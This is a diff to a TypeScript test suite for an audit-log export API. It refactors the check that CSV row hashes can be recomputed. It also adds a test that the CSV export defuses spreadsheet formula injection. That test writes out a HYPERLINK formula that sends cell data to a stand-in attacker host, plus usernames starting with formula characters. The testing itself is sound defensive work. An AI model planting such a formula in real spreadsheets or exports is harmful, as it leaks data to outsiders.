@@ -15,7 +15,7 @@ import { DAY } from "../../lib/clock.ts";
 import { accountByUsername } from "../../test/accounts.ts";
 import { allEvents } from "../../test/audit.ts";
 import { createTestContext, type TestContext } from "../../test/context.ts";
-import { parseCsv } from "../../test/csv.ts";
+import { csvValues, parseCsv } from "../../test/csv.ts";
 import { verifyByCode, verifyByQuestions } from "../../test/verify.ts";
 import { runInactivitySweep } from "../sweep/inactivity-sweep.ts";
 
@@ -211,13 +211,54 @@ describe("searching the trail", () => {
   });
 });
 
+/** Recomputes every row's hash from its CSV values, as an auditor outside the product would. */
+function expectHashesRecomputable(rows: string[][]) {
+  for (const r of rows) {
+    const [
+      seq,
+      id,
+      occurredAt,
+      actorType,
+      actorId,
+      actorName,
+      action,
+      accountId,
+      caseRef,
+      reason,
+      requestId,
+      ip,
+      details,
+      prevHash,
+      hash,
+    ] = r as string[];
+    const blank = (v: string | undefined) => (v === "" || v === undefined ? null : v);
+    const recomputed = eventHash({
+      seq: Number(seq),
+      id: id as string,
+      occurredAt: new Date(occurredAt as string),
+      actorType: actorType as string,
+      actorId: blank(actorId),
+      actorName: actorName as string,
+      action: action as string,
+      accountId: blank(accountId),
+      caseRef: blank(caseRef),
+      reason: blank(reason),
+      requestId: blank(requestId),
+      ip: blank(ip),
+      details: JSON.parse(details as string),
+      prevHash: prevHash as string,
+    });
+    expect(recomputed, `event ${seq}`).toBe(hash);
+  }
+}
+
 describe("exporting the trail", () => {
   it("streams CSV that an auditor can re-verify outside the product", async () => {
     const res = await t.request(`/api/v1/audit-events/export?format=csv&accountId=${maria}`, { cookie: sam });
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toMatch(/text\/csv/);
     expect(res.headers.get("content-disposition")).toMatch(/attachment; filename="audit-.*\.csv"/);
-    const [header, ...rows] = parseCsv(await res.text());
+    const [header, ...rows] = csvValues(await res.text());
     expect(header).toEqual([
       "seq",
       "id",
@@ -236,42 +277,47 @@ describe("exporting the trail", () => {
       "hash",
     ]);
     expect(rows.length).toBe((await list({ accountId: maria, limit: "200" })).items.length);
-    for (const r of rows) {
-      const [
-        seq,
-        id,
-        occurredAt,
-        actorType,
-        actorId,
-        actorName,
-        action,
-        accountId,
-        caseRef,
-        reason,
-        requestId,
-        ip,
-        details,
-        prevHash,
-        hash,
-      ] = r as string[];
-      const blank = (v: string | undefined) => (v === "" || v === undefined ? null : v);
-      const recomputed = eventHash({
-        seq: Number(seq),
-        id: id as string,
-        occurredAt: new Date(occurredAt as string),
-        actorType: actorType as string,
-        actorId: blank(actorId),
-        actorName: actorName as string,
-        action: action as string,
-        accountId: blank(accountId),
-        caseRef: blank(caseRef),
-        reason: blank(reason),
-        requestId: blank(requestId),
-        ip: blank(ip),
-        details: JSON.parse(details as string),
-        prevHash: prevHash as string,
-      });
-      expect(recomputed, `event ${seq}`).toBe(hash);
+    expectHashesRecomputable(rows);
+  });
+
+  it("writes no cell a spreadsheet would run as a formula, and the hashes still verify", async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    const usernames = ["=1+2", "+1+2", "-1+2", "@SUM(1;2)", "'quoted"];
+    for (const username of usernames) {
+      const res = await t.request("/api/v1/auth/login", { body: { username, password: "wrong-password-2" } });
+      expect(res.status).toBe(401);
+    }
+    // Maria was deactivated by the sweep; her reactivation carries the formula as its reason.
+    await verifyByQuestions(t, ava, maria, ["biscuit", "san antonio"], "CASE-45");
+    const reactivated = await t.request(`/api/v1/accounts/${maria}/reactivate`, {
+      cookie: ava,
+      body: { reason: formula },
+    });
+    expect(reactivated.status).toBe(200);
+
+    const text = await (await t.request("/api/v1/audit-events/export?format=csv", { cookie: sam })).text();
+    // The formula's own quotes are doubled inside a quoted cell, after the `'` that makes it text.
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",`);
+    const [, ...cells] = parseCsv(text);
+    const named = (name: string) => cells.filter((row) => row[5] === name);
+    expect(usernames.map((name) => named(`'${name}`).length)).toEqual(usernames.map(() => 1));
+    expect(cells.filter((row) => row[9] === `'${formula}`)).toHaveLength(1);
+    for (const row of cells) {
+      for (const cell of row) expect(cell, `event ${row[0]}`).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const [, ...rows] = csvValues(text);
+    expect(rows.length).toBe((await allEvents(t.database.db)).length);
+    expectHashesRecomputable(rows);
+
+    // NDJSON carries the values exactly as stored.
+    const ndjson = (await (await t.request("/api/v1/audit-events/export?format=ndjson", { cookie: sam })).text())
+      .trim()
+      .split("\n")
+      .map((line) => JSON.parse(line) as AuditEvent);
+    expect(ndjson.filter((e) => e.reason === formula)).toHaveLength(1);
+    for (const name of usernames) {
+      const byName = ndjson.filter((e) => e.actor.name === name);
+      expect(byName, name).toHaveLength(1);
     }
   });
 
